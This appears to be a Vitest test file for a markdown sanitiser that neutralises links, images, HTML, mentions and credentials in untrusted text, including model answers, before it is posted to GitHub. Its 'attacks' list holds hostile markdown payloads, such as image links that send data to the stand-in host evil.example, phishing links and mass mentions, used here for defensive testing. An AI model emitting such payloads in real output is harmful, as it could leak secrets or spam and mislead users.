import { describe, expect, it } from "vitest";
import {
  credentialNotice,
  disarmCode,
  disarmInline,
  disarmMarkdown,
  redactIssueText,
  safeCodeSpan,
} from "../../../src/core/markdown/index.js";
import { fakeGithubToken } from "../../helpers/fake-credentials.js";
import { cellText } from "../../../src/core/concordance/markdown-table.js";
import { liveMarkdown } from "../../helpers/live-markdown.js";

/** What an attacker writes into an issue, a file name or a model's answer to make the app's text act. */
const attacks = [
  "ping @acme/everyone and @octocat",
  "![x](https://evil.example/?d=SECRET)",
  "[click](https://evil.example/phish)",
  '<img src="https://evil.example/?d=1">',
  "<a href=https://evil.example>a</a>",
  "<details><summary>ok</summary>hidden</details>",
  "<https://evil.example/autolink>",
  "see https://evil.example/?d=1 or www.evil.example",
  "[x][1]\n\n[1]: https://evil.example/ref",
  "[1]: https://evil.example/ref",
  "&#33;&#91;x&#93;(https://evil.example) &#64;octocat &lt;img src=x&gt;",
  "\\![x](https://evil.example/escaped-bang)",
  "\\\\![x](https://evil.example/escaped-backslash)",
  "`code` ![x](https://evil.example/after-span)",
  "``a`b`` ![x](https://evil.example/after-double)",
  "` unclosed ![x](https://evil.example/unclosed) @octocat",
  "\\`@octocat` ![x](https://evil.example/escaped-tick)",
  "`x`@octocat",
  "| a | b |\n|---|---|\n| `x | ![i](https://evil.example/cell) |` | c |",
  "```\n![in fence](https://evil.example/ok)\n```\n![after](https://evil.example/after-fence)",
  "```mermaid\ngraph TD; A-->B\n```",
  "- ```\n  code\n![x](https://evil.example/list-fence)",
  "<!-- @octocat --> text",
  "@\u200Boctocat ![\u200Bx](https://evil.example/zw)",
  "[^1] footnote\n\n[^1]: https://evil.example/footnote",
];

describe("disarmMarkdown", () => {
  it.each(attacks)("leaves nothing live in %j", (attack) => {
    expect(liveMarkdown(disarmMarkdown(attack))).toEqual([]);
    expect(liveMarkdown(disarmMarkdown(attack, { oneLine: true }))).toEqual([]);
    expect(liveMarkdown(disarmInline(attack))).toEqual([]);
  });

  it("keeps ordinary markdown readable: emphasis, lists, code, references, emails", () => {
    const answer =
      "**T-4** is `in_progress`; see #12.\n\n- ask `/status`\n- mail ops@example.com\n\n```ts\nconst a = 1;\n```";
    expect(disarmMarkdown(answer)).toBe(answer.replace("```ts", "```text"));
  });

  it("shows a mention as text that notifies nobody", () => {
    expect(disarmMarkdown("thanks @octocat, cc @acme/everyone")).toBe("thanks `@`octocat, cc `@`acme/everyone");
  });

  it("shows images and links as their text, with the URL in a code span", () => {
    expect(disarmMarkdown("![x](https://evil.example/?d=1)")).toBe("!\\[x\\](`https://evil.example/?d=1)`");
    expect(disarmMarkdown("<img src=x>")).toBe("&lt;img src=x&gt;");
  });

  it("escapes a backtick run that pairs with nothing, so the spans GitHub sees are the ones kept", () => {
    expect(disarmMarkdown("` open @x")).toBe("\\` open `@`x");
    expect(disarmMarkdown("``a`b``")).toBe("``a`b``");
  });

  it("closes a fence left open and drops its info string", () => {
    expect(disarmMarkdown("```mermaid\ngraph")).toBe("```text\ngraph\n```");
  });

  it("redacts a credential, in prose and in code", () => {
    const token = fakeGithubToken();
    const out = disarmMarkdown(`token ${token}\n\n\`${token}\``);
    expect(out).not.toContain(token);
    expect(out).toContain("[REDACTED:");
  });

  it("redacts a credential split by an invisible character", () => {
    const token = fakeGithubToken();
    const split = `${token.slice(0, 6)}\u200B${token.slice(6)}`;
    expect(disarmMarkdown(split)).not.toContain(token);
    expect(disarmInline(split)).not.toContain(token);
  });

  it("cuts long text and still closes what it opened", () => {
    expect(disarmMarkdown(`\`\`\`\n${"x".repeat(50)}`, { maxLength: 20 })).toMatch(/…\n```$/);
  });
});

describe("disarmInline", () => {
  it("flattens to one escaped line", () => {
    expect(disarmInline("a *b*\n| c `d`")).toBe("a \\*b\\* \\| c \\`d\\`");
    expect(disarmInline("   ")).toBe("—");
  });

  it("leaves no pipe that could split a table cell, URLs included", () => {
    const cell = disarmInline("see https://evil.example/a|![i](https://evil.example/b) | x");
    expect(cell).not.toMatch(/(^|[^\\])\|/);
    expect(disarmMarkdown("https://evil.example/a|![i](https://evil.example/b)", { oneLine: true })).not.toMatch(
      /(^|[^\\])\|/,
    );
  });

  it("keeps an email readable", () => {
    expect(disarmInline("write to ops@example.com")).toBe("write to ops@example.com");
  });
});

describe("code spans for file names", () => {
  it.each(["a`b.ts", "``x``", "`", "a ` ![x](https://evil.example/f) `", "x\n![y](https://evil.example/nl)"])(
    "keeps %j inside its span",
    (name) => {
      const span = disarmCode(name);
      expect(liveMarkdown(`file ${span} changed`)).toEqual([]);
      expect(span.startsWith("`") && span.endsWith("`")).toBe(true);
    },
  );

  it("uses a fence longer than any run inside", () => {
    expect(safeCodeSpan("a``b")).toBe("```a``b```");
    expect(safeCodeSpan("`a")).toBe("`` `a ``");
  });

  it("redacts a credential in a file name", () => {
    const token = fakeGithubToken();
    expect(disarmCode(`config/${token}.txt`)).not.toContain(token);
  });
});

describe("check-run table cells", () => {
  it("show a commit subject's mention as text", () => {
    expect(cellText("fix for @octocat, mail a@example.com")).toBe("fix for `@`octocat, mail a@example.com");
  });
});

describe("redactIssueText", () => {
  it("redacts title and body and counts what it took out", () => {
    const token = fakeGithubToken();
    const issue = redactIssueText({ title: `Fix (${token})`, body: `key: ${token}\n<!-- kept for the parser -->` });
    expect(issue.redactions).toBe(2);
    expect(`${issue.title}${issue.body ?? ""}`).not.toContain(token);
    expect(issue.body).toContain("<!-- kept for the parser -->");
    expect(redactIssueText({ title: "Plain", body: null })).toEqual({ title: "Plain", body: null, redactions: 0 });
  });

  it("tells the owner to rotate, naming nothing of the credential", () => {
    expect(credentialNotice()).toMatch(/Rotate it now/);
    expect(credentialNotice()).toMatch(/edit history/);
  });
});
